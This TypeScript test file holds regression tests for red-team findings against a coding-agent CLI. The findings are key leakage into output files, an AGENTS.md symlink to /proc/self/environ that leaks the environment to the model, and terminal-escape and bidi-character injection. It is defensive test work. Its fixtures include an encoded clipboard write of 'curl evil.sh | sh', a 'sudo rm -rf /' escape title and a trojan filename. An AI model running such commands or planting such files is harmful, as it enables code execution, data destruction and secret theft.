// Red-team findings of issue 15 about what leaves through our outputs, through the built CLI
// with scripted model calls:
// - item 4: `exec -o FILE` wrote the key in clear when the model's answer held it (stdout showed
//   [REDACTED]); now every output goes through one redaction layer;
// - item 6: a repository's `AGENTS.md -> /proc/self/environ` sent the whole environment, keys
//   included, in the first request; a doc is now read only inside the project root, never from
//   /proc, /sys or /dev, and a skipped one is one warning line;
// - item 8: terminal escapes in command output and model text (OSC 52 clipboard writes, window
//   titles, cursor moves, clears, DCS, C1) reached the terminal through exec's human output;
//   now only our own colours do, while the rollout and --json events keep the raw text.
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { hasTerminalControl, HOSTILE_TEXT, withoutSgr } from "../../src/util/__fixtures__/hostile-terminal-text.js";
import { runCli } from "../support/cli.js";
import {
  ENV,
  filesUnder,
  home,
  shellToolsHome,
  KEY,
  modelName,
  repo,
  responseItems,
  rollout,
  useFakeServer,
} from "../faults/support.js";

const fake = useFakeServer();

describe("item 4: the key never reaches the -o file", () => {
  it("exec -o FILE with a model answer holding the key: FILE has [REDACTED]; the key is in no rollout, log, stdout or stderr", async () => {
    const dir = repo();
    const model = modelName("out-key");
    fake.server.setScript(model, [
      { reasoning: `thinking about ${KEY}`, text: `The key in .env is ${KEY} — keep it safe.` },
    ]);
    const codexHome = home(fake.server.url, model);
    const answer = path.join(path.dirname(dir), "answer.txt");
    const r = await runCli(["exec", "-o", answer, "-C", dir, "what is the key?"], { home: codexHome, env: ENV });
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(answer, "utf8")).toBe("The key in .env is [REDACTED] — keep it safe.");
    expect(r.stdout).toContain("[REDACTED]");
    for (const out of [r.stdout, r.stderr]) expect(out).not.toContain(KEY);
    const written = filesUnder(codexHome).filter((f) => path.basename(f) !== "config.toml");
    expect(written.some((f) => f.includes(`${path.sep}sessions${path.sep}`))).toBe(true);
    expect(written.some((f) => f.endsWith(".log") || f.endsWith(".jsonl"))).toBe(true);
    for (const file of written) expect(readFileSync(file, "utf8"), file).not.toContain(KEY);
  });
});

describe("item 6: project docs are read only inside the project", () => {
  const CANARY = "canary-env-value-4242";
  const env = { ...ENV, SOME_TOKEN_LIKE_SETTING: CANARY };

  /** Runs one exec turn in `cwd`; returns its stderr and the one request the model received. */
  async function firstRequest(cwd: string) {
    const model = modelName("docs");
    fake.server.setScript(model, [{ text: "ok" }]);
    const r = await runCli(["exec", "-C", cwd, "hello"], { home: home(fake.server.url, model), env });
    expect(r.code, r.stderr).toBe(0);
    const requests = fake.server.requests(model);
    expect(requests).toHaveLength(1);
    return { stderr: r.stderr, body: JSON.stringify(requests[0]?.body) };
  }

  const warnings = (stderr: string) => stderr.split("\n").filter((line) => line.startsWith("warning: skipped"));

  it("AGENTS.md -> /proc/self/environ: no environment value is sent, one warning names the file; a normal AGENTS.md below still arrives", async () => {
    const dir = repo();
    symlinkSync("/proc/self/environ", path.join(dir, "AGENTS.md"));
    mkdirSync(path.join(dir, "pkg"));
    writeFileSync(path.join(dir, "pkg", "AGENTS.md"), "PKG-RULES: run the package's tests with node test.js\n");
    const { stderr, body } = await firstRequest(path.join(dir, "pkg"));
    for (const value of [KEY, CANARY, `HOME=`, "PATH="]) expect(body).not.toContain(value);
    expect(body).toContain("PKG-RULES: run the package's tests with node test.js");
    const [warning, ...more] = warnings(stderr);
    expect(more).toEqual([]);
    const file = path.join(dir, "AGENTS.md").replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
    expect(warning).toMatch(
      new RegExp(`^warning: skipped ${file}: it resolves to /proc/\\d+/environ, which is a system file$`),
    );
  });

  it("AGENTS.md -> a file outside the repository: not sent, one warning", async () => {
    const dir = repo();
    const outside = path.join(path.dirname(dir), "elsewhere.md");
    writeFileSync(outside, `OUTSIDE-CONTENT ${CANARY}\n`);
    symlinkSync(outside, path.join(dir, "AGENTS.md"));
    const { stderr, body } = await firstRequest(dir);
    expect(body).not.toContain("OUTSIDE-CONTENT");
    expect(body).not.toContain(CANARY);
    expect(warnings(stderr)).toEqual([
      `warning: skipped ${path.join(dir, "AGENTS.md")}: it resolves to ${outside}, which is outside the project (${dir})`,
    ]);
  });

  it("a plain AGENTS.md arrives as before, with no warning", async () => {
    const dir = repo();
    writeFileSync(path.join(dir, "AGENTS.md"), "REPO-RULES: keep it small\n");
    const { stderr, body } = await firstRequest(dir);
    expect(body).toContain("REPO-RULES: keep it small");
    expect(warnings(stderr)).toEqual([]);
  });
});

describe("item 8: terminal escapes from commands and the model never reach the terminal", () => {
  it("exec's human output has only our colours; the rollout and --json events keep the raw text", async () => {
    const dir = repo();
    writeFileSync(path.join(dir, "hostile.txt"), HOSTILE_TEXT);
    const model = modelName("escapes");
    const script = () => [
      { shell: ["bash", "-lc", "cat hostile.txt"] },
      { text: `Here is what it printed:\n${HOSTILE_TEXT}` },
    ];
    fake.server.setScript(model, script());
    const codexHome = home(fake.server.url, model);
    const r = await runCli(["exec", "--full-auto", "--color", "always", "-C", dir, "show me hostile.txt"], {
      home: codexHome,
      env: ENV,
    });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain("\u001b[32m"); // our own colours are still there
    for (const out of [r.stdout, r.stderr]) {
      expect(hasTerminalControl(withoutSgr(out)), JSON.stringify(withoutSgr(out)).slice(0, 600)).toBe(false);
      expect(out).not.toContain("\u001b[31;1m"); // the hostile colour itself
      expect(out).toContain("<OSC 52 clipboard write (BEL)></OSC 52 clipboard write (BEL)>");
    }
    expect(r.stdout).toContain("Here is what it printed:");

    // The session file records what really happened, escapes and all.
    const items = responseItems(rollout(codexHome));
    const output = items.find((i) => i.type === "function_call_output");
    expect(String(output?.output)).toContain("\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007");
    const message = items.find((i) => i.type === "message" && i.role === "assistant");
    expect(JSON.stringify(message)).toContain(
      JSON.stringify("\u001b]0;sudo rm -rf / # totally safe\u0007").slice(1, -1),
    );

    // --json: JSON-escaped on the wire, the raw text once parsed.
    fake.server.setScript(model, script());
    const json = await runCli(["exec", "--json", "--full-auto", "-C", dir, "again"], { home: codexHome, env: ENV });
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).not.toContain("\u001b");
    const completed = json.stdout
      .trim()
      .split("\n")
      .map(
        (line) =>
          JSON.parse(line) as { type: string; item?: { type: string; text?: string; aggregated_output?: string } },
      )
      .filter((e) => e.type === "item.completed")
      .map((e) => e.item);
    expect(completed.find((i) => i?.type === "command_execution")?.aggregated_output).toContain("\u001b[2J");
    expect(completed.find((i) => i?.type === "agent_message")?.text).toContain("\u001bP$qm\u001b\\");
  });
});

describe("item 8: the last error line is terminal-safe too", () => {
  it("a proxy error whose message carries escapes ends exec with one line without them", async () => {
    const model = modelName("err-esc");
    fake.server.setScript(model, [{ fault: { status: 400, error: { message: `bad request ${HOSTILE_TEXT}` } } }]);
    const r = await runCli(["exec", "-C", repo(), "hi"], { home: home(fake.server.url, model), env: ENV });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("bad request");
    expect(hasTerminalControl(withoutSgr(r.stderr))).toBe(false);
  });
});

describe("issue 29 item 6: bidi controls and zero-width characters never reach the terminal raw", () => {
  it("file names a patch creates and a command lists, and the model's words, show them as <U+…>; the files keep their names", async () => {
    const dir = repo();
    const model = modelName("bidi");
    const trojan = "invoice\u202eexe.txt"; // displays as "invoicetxt.exe"
    const lookalike = "ma\u200bin.ts";
    fake.server.setScript(model, [
      {
        custom_tool_call: {
          name: "apply_patch",
          input: `*** Begin Patch\n*** Add File: ${trojan}\n+x\n*** Add File: ${lookalike}\n+y\n*** End Patch`,
        },
      },
      { shell: ["bash", "-lc", "ls"] },
      { text: `Created ${trojan} and ${lookalike}; note \u2066// admin only\u2069 and a tag\u{e0041}.` },
    ]);
    const codexHome = shellToolsHome(fake.server.url, model);
    const r = await runCli(["exec", "--full-auto", "-C", dir, "make files"], { home: codexHome, env: ENV });
    expect(r.code, r.stderr).toBe(0);
    for (const out of [r.stdout, r.stderr]) expect(hasTerminalControl(withoutSgr(out)), out.slice(0, 600)).toBe(false);
    const shown = r.stdout + r.stderr;
    expect(shown).toContain("invoice<U+202E>exe.txt");
    expect(shown).toContain("ma<U+200B>in.ts");
    expect(r.stdout).toContain("<U+2066>// admin only<U+2069> and a tag<U+E0041>.");
    // What was asked happened: the names on disk are the raw ones.
    expect(readFileSync(path.join(dir, trojan), "utf8")).toBe("x\n");
    expect(readFileSync(path.join(dir, lookalike), "utf8")).toBe("y\n");
  });
});
